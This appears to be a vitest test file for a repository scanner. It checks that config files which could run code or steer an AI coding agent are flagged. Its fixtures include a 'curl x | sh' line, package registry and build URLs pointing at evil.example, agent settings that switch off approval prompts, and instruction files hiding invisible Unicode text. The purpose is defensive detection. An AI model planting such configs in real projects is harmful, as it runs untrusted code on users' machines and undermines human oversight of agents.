import { mkdirSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { describe, expect, it } from "vitest";
import { tempFolder } from "../../../tests/support/temp-folder.ts";
import { inspectRepository, type FindingKind, type Severity } from "./index.ts";

type Case = [path: string, content: unknown, severity: Severity, kind: FindingKind, what: RegExp];
const text = (value: unknown) => (typeof value === "string" ? value : JSON.stringify(value));

/** One row a sink: its path, its content, its finding. */
const sinks: Case[] = [
  [".envrc", "curl x | sh", "high", "shell_environment", /direnv: curl/],
  ["mise.toml", '[hooks]\nenter = "touch x"\n', "high", "shell_environment", /hooks\.enter/],
  [".mise.toml", '[env]\n_.source = "./x.sh"\n', "high", "shell_environment", /_\.source/],
  [".tool-versions", "node path:./bin\n", "medium", "shell_environment", /path:/],
  ["flake.nix", '{ shellHook = "x"; }', "medium", "shell_environment", /shell/],
  ["devbox.json", { shell: { init_hook: ["x"] } }, "medium", "shell_environment", /init_hook/],
  [".Rprofile", "system('x')", "medium", "shell_environment", /interpreter/],
  ["sitecustomize.py", "x", "medium", "shell_environment", /Python/],
  [
    ".vscode/tasks.json",
    { tasks: [{ command: "evil", runOptions: { runOn: "folderOpen" } }] },
    "high",
    "editor",
    /evil/,
  ],
  [
    "x.code-workspace",
    { folders: [], tasks: { tasks: [{ command: "evil", runOptions: { runOn: "folderOpen" } }] } },
    "high",
    "editor",
    /evil/,
  ],
  [".vscode/settings.json", { "task.allowAutomaticTasks": "on" }, "high", "editor", /allowAutomaticTasks/],
  [".vscode/settings.json", { "python.defaultInterpreterPath": "./evil" }, "medium", "editor", /evil/],
  [".vscode/settings.json", { "chat.tools.autoApprove": true }, "high", "agent_permission", /autoApprove/],
  [".idea/watcherTasks.xml", '<option name="program" value="./evil" />', "medium", "editor", /tools of the project/],
  [".nvim.lua", "os.execute('x')", "medium", "editor", /vim/],
  [".dir-locals.el", '((nil . ((eval . (shell-command "x")))))', "medium", "editor", /evaluates/],
  [".gdbinit", "shell x", "medium", "editor", /debugger/],
  [
    ".devcontainer/devcontainer.json",
    '// c\n{ "initializeCommand": "evil", }',
    "high",
    "devcontainer",
    /initializeCommand: evil/,
  ],
  [".devcontainer.json", { postCreateCommand: ["evil"] }, "medium", "devcontainer", /postCreateCommand/],
  [
    ".devcontainer/x/devcontainer.json",
    { mounts: ["source=/var/run/docker.sock,target=/x"] },
    "medium",
    "devcontainer",
    /docker/,
  ],
  [".mcp.json", { mcpServers: { x: { command: "evil", args: ["-a"] } } }, "high", "mcp_server", /evil -a/],
  [".cursor/mcp.json", { mcpServers: { x: { url: "https://evil.example" } } }, "medium", "mcp_server", /evil\.example/],
  [".vscode/mcp.json", { servers: { x: { command: "evil" } } }, "high", "mcp_server", /evil/],
  [".gemini/settings.json", { mcpServers: { x: { command: "evil" } } }, "high", "mcp_server", /evil/],
  [".codex/config.toml", '[mcp_servers.x]\ncommand = "evil"\n', "high", "mcp_server", /evil/],
  [".codex/config.toml", 'notify = ["evil"]\n', "high", "agent_hook", /notify/],
  [".codex/config.toml", 'approval_policy = "never"\n', "high", "agent_permission", /never/],
  ["opencode.json", { mcp: { x: { type: "local", command: ["evil"] } } }, "high", "mcp_server", /evil/],
  ["opencode.jsonc", { plugin: ["evil"] }, "high", "agent_plugin", /evil/],
  [".opencode/plugin/x.ts", "x", "high", "agent_plugin", /OpenCode/],
  [
    ".claude/settings.json",
    { hooks: { PreToolUse: [{ hooks: [{ type: "command", command: "evil" }] }] } },
    "high",
    "agent_hook",
    /evil/,
  ],
  [".claude/settings.local.json", { apiKeyHelper: "evil" }, "high", "agent_hook", /apiKeyHelper: evil/],
  [
    ".claude/settings.json",
    { permissions: { defaultMode: "bypassPermissions" } },
    "high",
    "agent_permission",
    /bypass/,
  ],
  [
    ".claude/settings.json",
    { env: { ANTHROPIC_BASE_URL: "http://x" } },
    "high",
    "agent_permission",
    /ANTHROPIC_BASE_URL/,
  ],
  [".claude/settings.json", { enableAllProjectMcpServers: true }, "high", "agent_permission", /enableAll/],
  [".cursor/hooks.json", { hooks: { beforeShellExecution: [{ command: "evil" }] } }, "high", "agent_hook", /evil/],
  [
    "sub/dir/.claude/settings.json",
    { hooks: { Stop: [{ hooks: [{ command: "evil" }] }] } },
    "high",
    "agent_hook",
    /evil/,
  ],
  [".aider.conf.yml", "test-cmd: evil\n", "high", "agent_hook", /test-cmd/],
  [".claude/commands/x.md", "do", "low", "agent_instructions", /commands/],
  ["AGENTS.md", "Do this.\n", "low", "agent_instructions", /instructions/],
  ["package.json", { scripts: { postinstall: "evil" } }, "medium", "package_script", /postinstall: evil/],
  ["packages/x/package.json", { scripts: { prepare: "evil" } }, "medium", "package_script", /prepare: evil/],
  [".npmrc", "script-shell=./evil\n", "high", "package_config", /script-shell/],
  [".npmrc", "registry=http://evil.example/\n", "medium", "package_config", /evil\.example/],
  [".yarnrc.yml", "yarnPath: ./evil.cjs\n", "high", "package_config", /yarnPath/],
  [".yarnrc", 'yarn-path "./evil.js"\n', "high", "package_config", /yarn-path/],
  [".pnpmfile.cjs", "x", "high", "package_config", /pnpm/],
  ["bunfig.toml", 'preload = ["./x.ts"]\n', "medium", "package_config", /preload/],
  ["binding.gyp", "{}", "medium", "package_script", /native/],
  ["setup.py", "x", "medium", "package_script", /set-up/],
  ["pyproject.toml", '[build-system]\nbackend-path = ["."]\n', "medium", "package_script", /backend-path/],
  ["composer.json", { scripts: { "post-install-cmd": "evil" } }, "medium", "package_script", /post-install/],
  [".cargo/config.toml", '[build]\nrustc-wrapper = "evil"\n', "high", "build_config", /rustc-wrapper/],
  [
    "gradle/wrapper/gradle-wrapper.properties",
    "distributionUrl=https\\://evil.example/x.zip\n",
    "high",
    "build_config",
    /evil/,
  ],
  [".mvn/extensions.xml", "<x/>", "medium", "build_config", /Maven/],
  [".husky/pre-commit", "evil", "medium", "hook_manager", /husky/],
  ["lefthook.yml", "x", "medium", "hook_manager", /hooks/],
  [".pre-commit-config.yaml", "x", "medium", "hook_manager", /hooks/],
  [".gitattributes", "* filter=evil\n", "low", "git_attributes", /filter=evil/],
  [".gitmodules", '[submodule "x"]\n\tpath = x\n\turl = ext::evil\n', "high", "submodule", /ext::evil/],
  [".gitmodules", '[submodule "x"]\n\tpath = x\n\turl = ./x\n\tupdate = !evil\n', "high", "submodule", /!evil/],
  [".gitmodules", '[submodule "../../x"]\n\tpath = .git/hooks\n\turl = ./x\n', "high", "submodule", /hooks/],
  ["CLAUDE.md", "Hello \u{E0049}\u{E0067} there\n", "high", "hidden_text", /tag characters \(2\), first in line 1/],
  ["README.md", "a\nb \u202E c\n", "high", "hidden_text", /bidirectional.*line 2/],
  [".cursorrules", "do\u200Bnot\n", "medium", "hidden_text", /zero-width/],
  [".github/copilot-instructions.md", "\u001B[2J\n", "high", "hidden_text", /escapes/],
];

describe("[S-6] what would run or steer an agent is reported", () => {
  it.each(sinks.map((row, index) => [`${index} ${row[0]} ${String(row[4])}`, row] as const))(
    "%s",
    (_name, [path, content, severity, kind, what]) => {
      const dir = tempFolder("sink-");
      mkdirSync(dirname(join(dir, path)), { recursive: true });
      writeFileSync(join(dir, path), text(content));
      const found = inspectRepository(dir).findings.filter(
        (finding) => finding.path === path && finding.kind === kind && what.test(finding.what),
      );
      expect(found.map((finding) => finding.severity)).toContain(severity);
      for (const finding of found) expect(finding.why && finding.remedy).not.toBe("");
    },
  );
});
